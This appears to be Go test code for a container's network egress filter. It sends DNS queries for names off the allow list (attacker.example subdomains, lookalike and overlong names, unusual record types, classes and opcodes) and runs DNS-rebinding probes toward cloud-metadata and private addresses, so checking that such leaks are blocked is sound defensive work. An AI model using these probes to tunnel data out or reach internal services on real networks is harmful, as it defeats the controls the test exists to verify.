package egress

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// nameServer is the one of /etc/resolv.conf.
var nameServer = sync.OnceValue(func() string {
	b, _ := os.ReadFile("/etc/resolv.conf")
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) == 2 && f[0] == "nameserver" {
			return net.JoinHostPort(f[1], "53")
		}
	}
	return ""
})

// question asks the container's name server, and returns nil if there are records in the answer.
func question(network, name string, typ dnsmessage.Type, class dnsmessage.Class, change func(*dnsmessage.Message)) error {
	n, err := dnsmessage.NewName(name)
	if err != nil {
		return err
	}
	m := dnsmessage.Message{Header: dnsmessage.Header{ID: 9, RecursionDesired: true}, Questions: []dnsmessage.Question{{Name: n, Type: typ, Class: class}}}
	if change != nil {
		change(&m)
	}
	b, err := m.Pack()
	if err != nil {
		return err
	}
	c, err := net.DialTimeout(network, nameServer(), wait)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	if err := c.SetDeadline(time.Now().Add(wait)); err != nil {
		return err
	}
	if network == "tcp" {
		b = append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)
	}
	if _, err := c.Write(b); err != nil {
		return err
	}
	buf := make([]byte, 4096)
	k, err := c.Read(buf)
	if err != nil {
		return err
	}
	if buf = buf[:k]; network == "tcp" && k > 2 {
		buf = buf[2:]
	}
	var got dnsmessage.Message
	if err := got.Unpack(buf); err != nil {
		return err
	}
	if len(got.Answers) == 0 {
		return fmt.Errorf("%v", got.RCode)
	}
	return nil
}

// nameProbes ask for names that are not in the list. The test looks for the questions at the world's name server.
func nameProbes() (list []probe) {
	add := func(what, name string, run func() error) {
		list = append(list, probe{name: "name: " + what, asks: strings.ToLower(strings.TrimSuffix(name, ".")), run: run})
	}
	for i, name := range []string{
		"plain.attacker.example.", "UPPER.Attacker.Example.", "api.example.com.attacker.example.", "x.api.example.com.", "api.example.co.", "pi.example.com.", "example.com.",
		"packages.example.", "evilpackages.example.", "a.packages.example.attacker.example.", "xn--pckages-9za.example.", "api-example.com.", "api.example.com0.", "_api.example.com.",
		"a.b.c.d.e.f.attacker.example.", strings.Repeat("d", 63) + ".attacker.example.", strings.Repeat("abcdefg.", 28) + "attacker.example.",
		strings.Repeat("d", 63) + "." + strings.Repeat("d", 63) + ".packages.example.", "169.254.169.254.", "2.215.184.93.in-addr.arpa.", "attacker.", "localhost.attacker.example.",
	} {
		add(fmt.Sprintf("%d %.40s", i, name), name, func() error { return question("udp", name, dnsmessage.TypeA, dnsmessage.ClassINET, nil) })
	}
	for _, typ := range []dnsmessage.Type{dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeMX, dnsmessage.TypeNS, dnsmessage.TypeSRV, dnsmessage.TypeSOA, dnsmessage.TypePTR, dnsmessage.TypeCNAME, 10, 16, 64, 65, 257, dnsmessage.TypeALL} {
		name := fmt.Sprintf("type%d.attacker.example.", typ)
		add("of type "+typ.String(), name, func() error { return question("udp", name, typ, dnsmessage.ClassINET, nil) })
		below := fmt.Sprintf("data%d.packages.example.", typ)
		switch typ {
		case dnsmessage.TypeAAAA, dnsmessage.TypeCNAME: // permitted types
		default:
			add("below a wildcard, of type "+typ.String(), below, func() error { return question("udp", below, typ, dnsmessage.ClassINET, nil) })
		}
	}
	for _, network := range []string{"tcp", "udp"} {
		for what, change := range map[string]func(*dnsmessage.Message){
			"two questions": func(m *dnsmessage.Message) {
				m.Questions = append([]dnsmessage.Question{{Name: dnsmessage.MustNewName("api.example.com."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}, m.Questions...)
			},
			"notify":    func(m *dnsmessage.Message) { m.OpCode = 4 },
			"update":    func(m *dnsmessage.Message) { m.OpCode = 5 },
			"chaos":     func(m *dnsmessage.Message) { m.Questions[0].Class = dnsmessage.ClassCHAOS },
			"any class": func(m *dnsmessage.Message) { m.Questions[0].Class = dnsmessage.ClassANY },
			"an answer": func(m *dnsmessage.Message) { m.Response = true },
			"plain":     nil,
		} {
			name := strings.ReplaceAll(what, " ", "-") + "-" + network + ".attacker.example."
			add(what+" over "+network, name, func() error { return question(network, name, dnsmessage.TypeTXT, dnsmessage.ClassINET, change) })
		}
	}
	return list
}

// rebindProbes connect to addresses that the servers of listed names answer with.
func rebindProbes() (list []probe) {
	for name, at := range rebinds {
		list = append(list, probe{name: "rebinding to " + at, run: func() error {
			_ = question("udp", name+".", dnsmessage.TypeA, dnsmessage.ClassINET, nil)
			_ = question("udp", name+".", dnsmessage.TypeAAAA, dnsmessage.ClassINET, nil)
			_, err := ask("tcp", net.JoinHostPort(at, "80"))
			return err
		}})
	}
	return list
}

// rebinds are names below the list's wildcard, and the addresses of their servers' answers.
var rebinds = map[string]string{
	"r1.packages.example": metadata, "r2.packages.example": private, "r3.packages.example": "192.168.66.1", "r4.packages.example": "100.64.66.1",
	"r5.packages.example": "fd00:ec2::254", "r6.packages.example": "::ffff:" + other4, "r7.packages.example": "fd00:66::1", "r8.packages.example": "198.18.66.1",
}
